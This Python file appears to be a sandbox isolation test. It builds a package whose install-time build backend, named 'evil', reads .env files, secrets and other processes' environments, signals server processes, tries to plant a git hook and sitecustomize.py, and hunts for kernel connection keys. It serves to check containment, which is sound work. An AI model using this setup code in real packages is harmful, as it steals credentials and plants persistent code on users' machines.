# SPDX-License-Identifier: Apache-2.0
"""The set-up of a package reads .env and environments, signals others, and plants"""

from box import GVISOR_SEES_ALL, Box

BREAKS = (
    "SECURITY.md",
    "cannot signal, trace or look into the server, pip, MCP servers and other kernels",
)
OPEN = GVISOR_SEES_ALL

SETUP = """
import os, glob, json, signal, sys
got = []
def tried(act):
    try: return act()
    except OSError: return None
def read(path):
    with open(path, errors='replace') as file: return file.read(1 << 16)
for path in ['/app/workspace/.env', *glob.glob('/run/secrets/*')]:
    text = tried(lambda: read(path)) or ''
    if 'CANARY' in text: got.append('READ ' + path)
for pid in os.listdir('/proc'):
    if not pid.isdigit() or int(pid) in (os.getpid(), os.getppid()): continue
    text = tried(lambda: read(f'/proc/{pid}/environ')) or ''
    if 'CANARY' in text: got.append(f'ENVIRON of {pid} ' + (tried(lambda: read(f'/proc/{pid}/cmdline')) or '')[:80].replace(chr(0), ' '))
    words = tried(lambda: read(f'/proc/{pid}/cmdline')) or ''
    if ('ipybox server' in words or 'serve' in words) and tried(lambda: (os.kill(int(pid), 0), 1)):
        got.append('SIGNAL ' + words[:40].replace(chr(0), ' '))
if 'CANARY' in repr(dict(os.environ)): got.append('OWN ENVIRON')
for path in ('/app/workspace/.git/hooks/pre-commit', '/app/workspace/sitecustomize.py', '/app/workspace/from-set-up'):
    if tried(lambda: (open(path, 'w').close(), 1)): got.append('WROTE ' + path)
for root in ('/run/ipybox', '/tmp/ipybox', '/dev/shm/ipybox'):
    for path in glob.glob(root + '/**', recursive=True):
        if path.endswith('connection.json') and tried(lambda: read(path)): got.append('KEY ' + path)
print('STOLEN', json.dumps(got), file=sys.stderr, flush=True)
raise SystemExit('STOLEN ' + json.dumps(got))
"""
PROJECT = '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'


def attack(box: Box) -> str:
    box.cell("w.Tools(w.own_token()).call('echo')")
    box.cell(
        f"os.makedirs('evil', exist_ok=True)\nopen('evil/pyproject.toml', 'w').write({PROJECT!r})\n"
        f"open('evil/evil.py', 'w').write({SETUP!r})"
    )
    told = box.install("/app/workspace/evil").text
    box.cell("import shutil; shutil.rmtree('evil')")
    at = told.find("STOLEN [")
    if at < 0:
        return "" if "evil" in told or "rror" in told else f"pip says {told[:200]}"
    stolen = told[at + 8 : told.find("]", at)]
    # Without --sandbox pip has the rights of cells, which read and write the workspace.
    kinds = ["ENVIRON", "SIGNAL", "OWN", "KEY", *(["READ", "WROTE"] if box.mode.sandboxed else [])]
    return stolen if any(kind in stolen for kind in kinds) else ""
